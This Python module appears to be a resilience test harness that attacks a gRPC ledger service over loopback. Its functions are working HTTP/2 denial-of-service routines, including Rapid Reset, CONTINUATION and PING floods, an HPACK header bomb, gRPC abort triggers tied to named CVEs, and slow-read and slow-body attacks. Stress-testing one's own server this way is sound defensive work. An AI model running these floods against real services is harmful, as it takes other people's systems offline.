"""What a hostile client does, each for some seconds, from one loopback address or several.

The attackers hold a valid certificate: what strangers can do to the ledger behind a handshake that
fails is a part of it. An attack goes on as long as it is let, and connects again when cut off.
"""
import os
import select
import socket
import struct
import time

import frames
from frames import (CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
                    WINDOW_UPDATE, Gone, Pump, call_headers, frame, literal, settings)

GET_CHECKPOINT = "/auditledger.v1.LedgerService/GetCheckpoint"
APPEND = "/auditledger.v1.LedgerService/AppendEvent"
APPEND_STREAM = "/auditledger.v1.LedgerService/AppendEventStream"
LIST = "/auditledger.v1.LedgerService/ListEntries"
RESETS = 300_000
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303")  # the rest never comes


def wait(seconds):
    select.select([], [], [], seconds)


def sockets(targets, count, first=b""):
    """As many plain connections as are taken, spread over the targets."""
    out = []
    for i in range(count):
        try:
            plain = targets[i % len(targets)].connect(timeout=0.5)
            plain.setblocking(False)
            if first:
                plain.send(first)
            out.append(plain)
        except OSError:
            continue
    return out


def hold(targets, until, count, first=b""):
    """Opens connections, and others for those that were closed, and says nothing more on them."""
    held, opened = [], 0
    while time.monotonic() < until:
        fresh = sockets(targets, count - len(held), first)
        opened += len(fresh)
        held += fresh
        wait(0.5)
        open_ones = []
        for plain in held:
            try:
                closed = plain.recv(1) == b""
            except BlockingIOError:
                closed = False
            except OSError:
                closed = True
            if closed:
                plain.close()
            else:
                open_ones.append(plain)
        held = open_ones
    return f"{opened} connections, {len(held)} held at the end"


def idle_connections(targets, until):
    return hold(targets, until, 1500)


def half_handshakes(targets, until):
    return hold(targets, until, 1500, CLIENT_HELLO)


def repeat(targets, until, opening, chunk, reads=True, most=None):
    """Sends `opening`, then chunk(n) for n = 0, 1, ..., on one connection after another, each from
    another address."""
    sent = connections = tries = 0
    while time.monotonic() < until and (most is None or sent < most):
        tries += 1
        try:
            pump = Pump(targets[tries % len(targets)], reads)
        except OSError:
            wait(0.1)
            continue
        connections += 1
        number = 0
        try:
            if pump.send(PREFACE + opening, until):
                while (most is None or sent < most) and pump.send(chunk(number), until):
                    number += 1
                    sent += 1
        except Gone:
            pass
        finally:
            pump.close()
    return sent, connections


PER_CHUNK = 500


def rapid_reset(targets, until):
    """CVE-2023-44487: streams are opened and cancelled in one breath."""
    headers = call_headers(GET_CHECKPOINT)
    cancel = struct.pack(">I", frames.CANCEL)

    def chunk(number):
        first = number * PER_CHUNK
        return b"".join(frame(HEADERS, END_HEADERS, 2 * (first + i) + 1, headers) +
                        frame(RST_STREAM, 0, 2 * (first + i) + 1, cancel)
                        for i in range(PER_CHUNK))

    sent, connections = repeat(targets, until, settings(), chunk, most=RESETS // PER_CHUNK)
    return f"{sent * PER_CHUNK} resets over {connections} connections"


def settings_flood(targets, until):
    block = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 2000
    sent, connections = repeat(targets, until, settings(), lambda _: block)
    return f"{sent * 2000} SETTINGS over {connections} connections"


def ping_flood(targets, until):
    block = frame(PING, 0, 0, b"hostile!") * 2000
    sent, connections = repeat(targets, until, settings(), lambda _: block)
    return f"{sent * 2000} PINGs over {connections} connections"


def unread_pings(targets, until):
    """Answers pile up where nobody reads them."""
    block = frame(PING, 0, 0, b"hostile!") * 2000
    sent, connections = repeat(targets, until, settings(), lambda _: block, reads=False)
    return f"{sent * 2000} PINGs over {connections} connections that read nothing"


def header_bomb(targets, until):
    """4,000 bytes go into the dynamic table and are then named 12,000 times a block."""
    big = literal("x-bomb", "b" * 3900, indexed=True)

    def chunk(number):
        block = call_headers(GET_CHECKPOINT, (big if number == 0 else b"") + b"\xbe" * 12000)
        return frame(HEADERS, END_HEADERS | frames.END_STREAM, 2 * number + 1, block)

    sent, connections = repeat(targets, until, settings(table=65536), chunk)
    return f"{sent} blocks of 47 MB unpacked over {connections} connections"


def continuation_flood(targets, until):
    """CVE-2024-27316 and others: a header block that never ends."""
    filler = frame(CONTINUATION, 0, 1, literal("x-" + "n" * 60, "v" * 16000))
    opening = settings() + frame(HEADERS, 0, 1, call_headers(GET_CHECKPOINT))
    sent, connections = repeat(targets, until, opening, lambda _: filler)
    return f"{sent} CONTINUATIONs of 16 KB over {connections} connections"


def oversized_metadata(targets, until):
    extra = b"".join(literal(f"x-{i}", "m" * 1000) for i in range(15))

    def chunk(number):
        return frame(HEADERS, END_HEADERS | frames.END_STREAM, 2 * number + 1,
                     call_headers(GET_CHECKPOINT, extra))

    sent, connections = repeat(targets, until, settings(), chunk)
    return f"{sent} calls with 15 KB of metadata over {connections} connections"


def abort_headers(targets, until):
    """CVE-2023-1428 and CVE-2023-32732: values that gRPC does not expect, and over 8 KB more."""
    rest = b"".join(literal(f"y-{i}", "m" * 1000) for i in range(10))
    triggers = (literal("te", "x"), literal("grpclb_client_stats", "x"), literal("x-bin", "*"))
    plain = call_headers(GET_CHECKPOINT)

    def chunk(number):
        odd = triggers[number % 3] + (rest if number % 2 else b"")
        return frame(HEADERS, END_HEADERS | frames.END_STREAM, 2 * number + 1, plain + odd)

    sent, connections = repeat(targets, until, settings(), chunk)
    return f"{sent} calls over {connections} connections"


def slow_bodies(targets, until):
    """Calls whose message comes a byte a second, on as many streams as are given."""
    pumps, calls = [], 0
    head = b"\0" + struct.pack(">I", 4 << 20)
    for target in targets:
        try:
            pump = Pump(target)
            opening = b"".join(frame(HEADERS, END_HEADERS, s, call_headers(APPEND)) +
                               frame(DATA, 0, s, head) for s in range(1, 200, 2))
            pump.send(PREFACE + settings() + opening, until)
            pumps.append(pump)
            calls += 100
        except (Gone, OSError):
            continue
    while time.monotonic() < until:
        wait(1)
        for pump in list(pumps):
            try:
                pump.send(b"".join(frame(DATA, 0, s, b"x") for s in range(1, 200, 2)), until)
            except Gone:
                pumps.remove(pump)
    return f"{calls} calls at a byte a second, {len(pumps)} connections left"


def slow_reader(targets, until):
    """Asks for as many pages as there are streams, with all the window there is; reads nothing."""
    body = frames.message(frames.text_field(1, "ledgers/bench") + b"\x10\xe8\x07")
    opening = PREFACE + settings(window=frames.MAX_WINDOW) + frame(
        WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30)) + b"".join(
            frame(HEADERS, END_HEADERS, s, call_headers(LIST)) +
            frame(DATA, frames.END_STREAM, s, body) for s in range(1, 200, 2))
    pumps, asked = {}, 0
    while time.monotonic() < until:
        for target in targets:
            try:
                if target not in pumps:
                    pumps[target] = Pump(target, reads=False, receive_buffer=4096)
                    pumps[target].send(opening, until)
                    asked += 100
                pumps[target].send(frame(PING, 0, 0, b"I am here"[:8]), time.monotonic() + 0.1)
            except Gone:
                pumps.pop(target).close()
            except OSError:
                continue
        wait(0.2)
    return f"{asked} pages asked for, none read; {len(pumps)} connections left"


def garbage(targets, until):
    """Noise before the handshake, in place of HTTP/2, and as frames."""
    tries = 0
    while time.monotonic() < until:
        noise = os.urandom(4096)
        tries += 1
        try:
            if tries % 3 == 0:
                with targets[0].connect(timeout=1) as plain:
                    plain.sendall(noise)
                continue
            with targets[0].secure(timeout=1) as secure:
                secure.sendall(noise if tries % 3 == 1 else PREFACE + settings() + noise)
        except (OSError, socket.timeout):
            continue
    return f"{tries} connections of noise"


ALL = (idle_connections, half_handshakes, rapid_reset, settings_flood, ping_flood, unread_pings,
       header_bomb, continuation_flood, oversized_metadata, abort_headers, slow_bodies, slow_reader,
       garbage)
